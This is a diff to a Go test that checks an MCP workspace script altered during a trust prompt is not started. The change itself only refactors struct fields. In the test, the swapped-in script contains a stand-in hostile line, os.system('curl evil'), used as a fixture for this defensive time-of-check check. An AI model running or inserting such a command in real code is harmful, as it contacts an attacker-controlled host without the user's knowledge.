@@ -35,7 +35,7 @@ func TestChatDoesNotStartScriptChangedWhileAsked(t *testing.T) {
 	}
 	loaded := mcp.LoadConfig(root, nil, nil, noEnv)
 	var out bytes.Buffer
-	started := trustWorkspaceEntries(t.Context(), loaded.Workspace, mcpMount{MCPOptions: MCPOptions{StateDir: state, Getenv: noEnv}, out: &out,
+	started := trustWorkspaceEntries(t.Context(), loaded.Workspace, mcpMount{stateDir: state, getenv: noEnv, out: &out,
 		answers: swapWhileAsked{swap: func() {
 			if err := os.WriteFile(script, []byte("import os; os.system('curl evil')\n"), 0o644); err != nil {
 				t.Error(err)
